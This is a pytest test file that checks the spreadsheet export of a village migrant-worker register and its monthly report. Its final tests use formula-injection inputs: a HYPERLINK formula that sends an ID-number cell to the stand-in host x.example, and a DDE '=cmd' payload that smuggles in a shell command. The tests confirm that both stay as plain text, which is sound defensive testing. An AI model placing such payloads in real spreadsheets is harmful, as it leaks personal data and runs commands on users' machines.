"""Spreadsheet export: the register (streamed) and the monthly report's tables, read back with openpyxl."""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from desmigratif_desktop.errors import KnownError
from desmigratif_desktop.reports.spreadsheets import write_monthly_xlsx, write_register_xlsx
from desmigratif_desktop.services.monthly_figures import MonthlyFigures
from desmigratif_desktop.services.report_rows import RegisterLine
from tests.conftest import make_nik
from tests.spreadsheet_inputs import (
    DISTRICT,
    PRINTED_ON,
    VILLAGE,
    empty_figures,
    full_figures,
    line,
    three_lines,
)

REGISTER_HEADER = [
    "No",
    "Nama",
    "NIK",
    "Jenis kelamin",
    "Tanggal lahir",
    "Umur",
    "Nomor KK",
    "Alamat",
    "Status",
    "Negara tujuan",
    "Sektor",
    "Tanggal berangkat",
    "Tanggal pulang",
    "Prosedural",
    "Telepon",
]
HEADER_ROW = 6


# -- helpers ---------------------------------------------------------------------------------------


def write_register(tmp_path: Path, chunks: list[list[RegisterLine]], **kwargs: Any) -> Worksheet:
    out = tmp_path / "daftar.xlsx"
    total = sum(len(chunk) for chunk in chunks)
    write_register_xlsx(iter(chunks), total, VILLAGE, out, printed_on=PRINTED_ON, **kwargs)
    return load_workbook(out)["Daftar PMI"]


def row_values(sheet: Worksheet, row: int) -> list[Any]:
    return [cell.value for cell in sheet[row]]


def column_a(sheet: Worksheet) -> list[Any]:
    return [sheet.cell(row=row, column=1).value for row in range(1, sheet.max_row + 1)]


def block_after(sheet: Worksheet, heading: str) -> list[tuple[Any, ...]]:
    """The rows under a heading (its table header first), up to the next empty row."""
    start = column_a(sheet).index(heading) + 2
    rows = []
    for values in sheet.iter_rows(min_row=start, values_only=True):
        if all(value is None for value in values):
            break
        rows.append(values)
    return rows


def value_of(sheet: Worksheet, label: str, column: int = 2) -> Any:
    row = column_a(sheet).index(label) + 1
    return sheet.cell(row=row, column=column).value


def cell_of(sheet: Worksheet, label: str, column: int = 2) -> Any:
    return sheet.cell(row=column_a(sheet).index(label) + 1, column=column)


def all_text(sheet: Worksheet) -> str:
    return "\n".join(str(value) for row in sheet.iter_rows(values_only=True) for value in row if value)


# -- the register ----------------------------------------------------------------------------------


def test_register_header_frozen_panes_and_filter(tmp_path: Path) -> None:
    sheet = write_register(tmp_path, [three_lines()])

    assert row_values(sheet, HEADER_ROW) == REGISTER_HEADER
    assert sheet.freeze_panes == f"C{HEADER_ROW + 1}"  # header rows and No/Nama stay in view
    assert sheet.auto_filter.ref == f"A{HEADER_ROW}:O{HEADER_ROW + 3}"
    assert sheet.column_dimensions["B"].width >= 25  # names are not squeezed into Excel's default 8.43


def test_register_identifiers_stay_text_with_every_digit(tmp_path: Path) -> None:
    lines = three_lines()
    sheet = write_register(tmp_path, [lines])

    for offset, expected in enumerate(lines, start=1):
        nik = sheet.cell(row=HEADER_ROW + offset, column=3)
        kk = sheet.cell(row=HEADER_ROW + offset, column=7)
        assert isinstance(nik.value, str) and nik.value == expected.nik and nik.value.startswith("33")
        assert len(nik.value) == 16 and nik.number_format == "@"
        assert isinstance(kk.value, str) and kk.value == expected.kk_number and kk.number_format == "@"
    phone = sheet.cell(row=HEADER_ROW + 1, column=15)
    assert phone.value == "081234567890"  # the leading 0 of a phone number survives


def test_register_rows_hold_real_dates_and_numbers(tmp_path: Path) -> None:
    sheet = write_register(tmp_path, [three_lines()])
    siti, warsito, dewi = (row_values(sheet, HEADER_ROW + n) for n in (1, 2, 3))

    assert [siti[0], warsito[0], dewi[0]] == [1, 2, 3]
    assert siti[1:4] == ["Siti Aminah", make_nik(date(1990, 3, 12), "P", 2), "P"]
    assert isinstance(siti[4], datetime) and siti[4].date() == date(1990, 3, 12)
    assert sheet.cell(row=HEADER_ROW + 1, column=5).number_format.lower() == "dd-mm-yyyy"
    assert siti[5] == 36 and isinstance(siti[5], int)
    assert siti[8:11] == ["PMI di luar negeri", "Taiwan", "Perawat lansia (caregiver)"]
    assert siti[11].date() == date(2025, 10, 19) and siti[12] is None and siti[13] == "Ya"
    assert warsito[12].date() == date(2023, 5, 17) and warsito[13] == "Tidak" and warsito[14] is None
    # a prospective worker has no placement: empty cells, not "None" or 01-01-1900
    assert dewi[9:14] == [None, None, None, None, None]


def test_register_title_rows_name_the_village_date_count_and_filter(tmp_path: Path) -> None:
    sheet = write_register(tmp_path, [three_lines()], filter_description="Status: PMI di luar negeri")
    title = [sheet.cell(row=row, column=1).value for row in range(1, HEADER_ROW)]

    assert title[0] == "DAFTAR PEKERJA MIGRAN INDONESIA (PMI)"
    assert "Desa Rengaspendawa" in title[1] and "Kabupaten Brebes" in title[1]
    assert "23 November 2026" in title[2] and "3 orang" in title[2]
    assert title[3] == "Saringan: Status: PMI di luar negeri"


def test_register_streams_chunks_in_order_with_progress(tmp_path: Path) -> None:
    chunks = [
        [
            line(f"Orang {n:04d}", date(1980 + n % 20, 1 + n % 12, 1 + n % 28), "LP"[n % 2], n)
            for n in range(s, e)
        ]
        for s, e in ((1, 501), (501, 1001), (1001, 1201))
    ]
    seen: list[tuple[int, int]] = []
    out = tmp_path / "daftar.xlsx"

    write_register_xlsx(
        iter(chunks), 1200, VILLAGE, out, printed_on=PRINTED_ON, progress=lambda *a: seen.append(a)
    )

    sheet = load_workbook(out, read_only=True)["Daftar PMI"]
    rows = list(sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True))
    assert len(rows) == 1200
    assert [row[0] for row in rows] == list(range(1, 1201))
    assert [row[1] for row in rows] == [f"Orang {n:04d}" for n in range(1, 1201)]
    assert rows[-1][2] == make_nik(date(1980, 1, 25), "L", 1200)  # n = 1200: 1980 + 0, month 1, day 25
    assert seen[0] == (0, 1200) and seen[-1] == (1200, 1200)
    assert [done for done, _ in seen] == [0, 500, 1000, 1200]


def test_empty_register_is_a_clean_sheet(tmp_path: Path) -> None:
    sheet = write_register(tmp_path, [])

    assert row_values(sheet, HEADER_ROW) == REGISTER_HEADER
    assert sheet.cell(row=HEADER_ROW + 1, column=1).value == "Tidak ada PMI yang sesuai untuk didaftar."
    assert sheet.auto_filter.ref == f"A{HEADER_ROW}:O{HEADER_ROW}"
    assert "jumlah 0 orang" in sheet.cell(row=3, column=1).value


def test_register_with_wrong_suffix_is_refused_before_reading_rows(tmp_path: Path) -> None:
    consumed: list[int] = []

    def chunks() -> Iterator[list[RegisterLine]]:
        consumed.append(1)
        yield three_lines()

    out = tmp_path / "daftar.pdf"
    with pytest.raises(KnownError) as raised:
        write_register_xlsx(chunks(), 3, VILLAGE, out, printed_on=PRINTED_ON)

    assert "harus berakhiran .xlsx" in raised.value.message
    assert consumed == [] and list(tmp_path.iterdir()) == []


def test_register_failing_midway_keeps_the_old_file_and_no_spooled_rows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spool = tmp_path / "temp"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))  # where openpyxl spools a streamed sheet
    out = tmp_path / "out" / "daftar.xlsx"
    write_register_xlsx(iter([three_lines()]), 3, VILLAGE, out, printed_on=PRINTED_ON)
    before = out.read_bytes()

    def chunks() -> Iterator[list[RegisterLine]]:
        yield three_lines()
        raise KnownError("Basis data terkunci.")

    with pytest.raises(KnownError):
        write_register_xlsx(chunks(), 6, VILLAGE, out, printed_on=PRINTED_ON)

    assert out.read_bytes() == before
    assert [path.name for path in out.parent.iterdir()] == ["daftar.xlsx"]
    assert list(spool.iterdir()) == []  # the rows (personal data) did not stay behind in a temp file


# -- the monthly report ----------------------------------------------------------------------------


def write_monthly(tmp_path: Path, figures: MonthlyFigures) -> Any:
    out = tmp_path / "laporan-2026-10.xlsx"
    write_monthly_xlsx(figures, out)
    return load_workbook(out)


SECTION_SHEETS = {
    "Rumah Tangga PMI": "1. Data Rumah Tangga PMI",
    "Layanan Migrasi": "2. Pilar 1 Layanan Migrasi",
    "Usaha Produktif": "3. Pilar 2 Usaha Produktif",
    "Parenting": "4. Pilar 3 Community Parenting",
    "Koperasi": "5. Pilar 4 Koperasi",
    "Kasus": "6. Kasus / Pengaduan",
}


def test_monthly_has_a_sheet_per_section_titled_as_in_the_pdf(tmp_path: Path) -> None:
    book = write_monthly(tmp_path, full_figures())

    assert book.sheetnames == ["Keterangan", *SECTION_SHEETS]
    for name, title in SECTION_SHEETS.items():
        assert book[name]["A1"].value == title
        assert book[name]["A2"].value == "Periode: Oktober 2026"
        assert "Desa Rengaspendawa, Kecamatan Larangan" in book[name]["A3"].value


def test_monthly_first_sheet_says_who_and_which_period(tmp_path: Path) -> None:
    sheet = write_monthly(tmp_path, full_figures())["Keterangan"]

    assert sheet["A1"].value == "LAPORAN BULANAN DESA MIGRAN PRODUKTIF (DESMIGRATIF)"
    assert value_of(sheet, "Periode") == "Oktober 2026"
    assert value_of(sheet, "Kode periode") == "2026-10"
    assert value_of(sheet, "Keadaan per").date() == date(2026, 10, 31)
    assert value_of(sheet, "Dibuat pada").date() == PRINTED_ON
    assert value_of(sheet, "Status laporan").startswith("Final")
    assert value_of(sheet, "Kode wilayah") == "33.29.15.2007"
    assert value_of(sheet, "Desa") == "Rengaspendawa"
    assert value_of(sheet, "Petugas Desmigratif") == "Siti Rahayu"
    assert value_of(sheet, "Kepala Desa") == "H. Darsono"


def test_monthly_register_sheet_numbers_and_totals(tmp_path: Path) -> None:
    figures = full_figures()
    sheet = write_monthly(tmp_path, figures)["Rumah Tangga PMI"]

    stock = block_after(sheet, "Keadaan per 31 Oktober 2026")
    assert stock[0] == ("Status", "Laki-laki", "Perempuan", "Jumlah")
    assert stock[1] == ("Calon PMI", 12, 30, 42)
    assert stock[2] == ("PMI di luar negeri", 410, 1105, 1515)
    male, female = 12 + 410 + 220 + 1800, 30 + 1105 + 385 + 2011
    assert stock[5] == ("Jumlah", male, female, male + female)
    assert len(stock) == 6
    assert value_of(sheet, "Rumah tangga PMI") == 1234
    assert cell_of(sheet, "Rumah tangga PMI").number_format == "#,##0"
    flows = dict(row[:2] for row in block_after(sheet, "Perubahan dalam bulan Oktober 2026")[1:])
    assert flows["Rumah tangga baru terdaftar"] == 7 and flows["Orang baru terdaftar"] == 23
    assert (
        flows["Keberangkatan (penempatan dimulai)"] == 19 and flows["Kepulangan (penempatan berakhir)"] == 11
    )
    countries = block_after(sheet, "PMI di luar negeri menurut negara tujuan")
    assert [row[:2] for row in countries[1:]] == [
        ("Taiwan", 700),
        ("Hong Kong", 500),
        ("Malaysia", 315),
        ("Jumlah", 1515),
    ]
    sectors = block_after(sheet, "PMI di luar negeri menurut sektor pekerjaan")
    assert sectors[-1][:2] == ("Jumlah", 1515)


def test_monthly_twelve_months_table_and_chart(tmp_path: Path) -> None:
    sheet = write_monthly(tmp_path, full_figures())["Rumah Tangga PMI"]

    table = block_after(sheet, "Keberangkatan dan kepulangan 12 bulan terakhir")
    assert table[0][:3] == ("Bulan", "Berangkat", "Pulang")
    assert table[1][:3] == ("November 2025", 10, 0)
    assert table[12][:3] == ("Oktober 2026", 21, 11)
    assert table[13][:3] == ("Jumlah", sum(range(10, 22)), sum(range(12)))
    assert len(sheet._charts) == 1


def test_monthly_pillar_sheets(tmp_path: Path) -> None:
    book = write_monthly(tmp_path, full_figures())

    services = book["Layanan Migrasi"]
    assert block_after(services, "Kontak layanan dalam bulan Oktober 2026 menurut jenis layanan")[-1] == (
        "Jumlah",
        14 + 9 + 6 + 2 + 0 + 3,
        None,
        None,
    )
    assert value_of(services, "Peserta sosialisasi", 4) == 41 + 67
    assert value_of(services, "Kegiatan sosialisasi", 4) == 3
    businesses = book["Usaha Produktif"]
    turnover = cell_of(businesses, "Omzet bulan ini")
    assert turnover.value == 1_500_000_000 and isinstance(turnover.value, int)
    assert turnover.number_format.startswith('"Rp"#,##0')
    assert value_of(businesses, "Nilai bantuan modal") == 12_500_000
    assert block_after(businesses, "Usaha aktif menurut sektor")[-1][:2] == ("Jumlah", 51)
    parenting = book["Parenting"]
    assert value_of(parenting, "Anak PMI per 31 Oktober 2026") == 312
    assert value_of(parenting, "Pengasuh yang hadir") == 61
    cases = book["Kasus"]
    assert value_of(cases, "Kasus dalam proses per 31 Oktober 2026") == 5
    assert block_after(cases, "Menurut jenis kasus")[-1] == ("Jumlah", 3, 5, 2)


def test_monthly_cooperative_sheet(tmp_path: Path) -> None:
    sheet = write_monthly(tmp_path, full_figures())["Koperasi"]

    assert value_of(sheet, "Nama koperasi") == "Koperasi <Maju> & Sejahtera"  # as typed
    assert value_of(sheet, "Anggota per 31 Oktober 2026") == 240
    savings = block_after(sheet, "Simpanan dan pinjaman dalam bulan Oktober 2026")
    assert [row[:2] for row in savings[1:5]] == [
        ("Simpanan pokok", 1_200_000),
        ("Simpanan wajib", 4_800_000),
        ("Simpanan sukarela", 2_350_000),
        ("Jumlah simpanan", 1_200_000 + 4_800_000 + 2_350_000),
    ]
    assert value_of(sheet, "Pinjaman dikembalikan") == 12_750_000
    assert value_of(sheet, "Sisa pinjaman") == 96_500_000
    assert cell_of(sheet, "Sisa pinjaman").number_format.startswith('"Rp"')
    assert "Penarikan simpanan tidak dicatat" in all_text(sheet)


def test_monthly_cooperative_month_not_entered_shows_no_zeros(tmp_path: Path) -> None:
    cooperative = replace(full_figures().cooperative, month_recorded=False)
    sheet = write_monthly(tmp_path, full_figures(cooperative=cooperative))["Koperasi"]

    assert "Angka koperasi bulan Oktober 2026 belum diisi." in column_a(sheet)
    assert "Simpanan pokok" not in column_a(sheet)
    assert value_of(sheet, "Simpanan yang disetor s.d. bulan ini") == 410_000_000


def test_empty_month_is_a_clean_workbook(tmp_path: Path) -> None:
    book = write_monthly(tmp_path, empty_figures())

    register = book["Rumah Tangga PMI"]
    assert block_after(register, "Keadaan per 31 Oktober 2026")[5] == ("Jumlah", 0, 0, 0)
    assert column_a(register).count("Belum ada PMI di luar negeri.") == 2
    assert block_after(register, "Keberangkatan dan kepulangan 12 bulan terakhir")[-1][:3] == ("Jumlah", 0, 0)
    assert register._charts == []  # no empty chart: the zeros say it
    assert "Belum ada usaha aktif." in column_a(book["Usaha Produktif"])
    assert value_of(book["Usaha Produktif"], "Omzet bulan ini") == 0
    assert "Belum ada koperasi yang tercatat." in column_a(book["Koperasi"])
    assert "Tidak ada kasus." in column_a(book["Kasus"])
    assert value_of(book["Keterangan"], "Kepala Desa") == "H. Darsono"


def test_running_month_and_district_office(tmp_path: Path) -> None:
    figures = full_figures(month="2026-11", as_of=PRINTED_ON, complete=False, letterhead=DISTRICT)
    book = write_monthly(tmp_path, figures)
    about = book["Keterangan"]

    assert about["A1"].value == "LAPORAN BULANAN DESA MIGRAN PRODUKTIF (DESMIGRATIF) KABUPATEN BREBES"
    assert about["A2"].value == "Periode: November 2026 (keadaan s.d. 23 November 2026)"
    assert value_of(about, "Status laporan").startswith("Sementara")
    assert value_of(about, "Koordinator Desmigratif") == "Budi Santoso"
    assert "Desa" not in column_a(about) and "Kepala Desa" not in column_a(about)
    assert book["Kasus"]["A3"].value == "Kabupaten Brebes, Provinsi Jawa Tengah"


def test_monthly_wrong_suffix_is_refused_and_nothing_written(tmp_path: Path) -> None:
    with pytest.raises(KnownError) as raised:
        write_monthly_xlsx(full_figures(), tmp_path / "laporan.xls")

    assert raised.value.message == "Nama berkas laporan.xls harus berakhiran .xlsx."
    assert list(tmp_path.iterdir()) == []


# -- typed text stays text ---------------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://x.example/?"&C8,"Budi")'


def test_typed_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    lines = [
        line(FORMULA_NAME, date(1990, 1, 2), "L", 1, address="=1+2"),
        line("#N/A", date(1991, 1, 2), "P", 2),
    ]
    sheet = write_register(tmp_path, [lines])
    name, address = sheet.cell(row=HEADER_ROW + 1, column=2), sheet.cell(row=HEADER_ROW + 1, column=8)
    error_like = sheet.cell(row=HEADER_ROW + 2, column=2)
    assert (name.value, name.data_type) == (FORMULA_NAME, "s")
    assert (address.value, address.data_type) == ("=1+2", "s")
    assert (error_like.value, error_like.data_type) == ("#N/A", "s")


def test_control_characters_are_dropped_not_a_crash(tmp_path: Path) -> None:
    sheet = write_register(
        tmp_path, [[line("Siti\x01 Aminah", date(1990, 1, 2), "P", 1, address="Jl. A\x0bNo. 5")]]
    )
    assert sheet.cell(row=HEADER_ROW + 1, column=2).value == "Siti Aminah"
    assert sheet.cell(row=HEADER_ROW + 1, column=8).value == "Jl. ANo. 5"


def test_monthly_tables_keep_a_formula_like_village_head_as_text(tmp_path: Path) -> None:
    letterhead = replace(VILLAGE, village_head_name="=cmd|' /C calc'!A0", address="Jl.\x02 Raya")
    about = write_monthly(tmp_path, full_figures(letterhead=letterhead))["Keterangan"]
    head = cell_of(about, "Kepala Desa")
    assert (head.value, head.data_type) == ("=cmd|' /C calc'!A0", "s")
    assert value_of(about, "Alamat kantor") == "Jl. Raya"
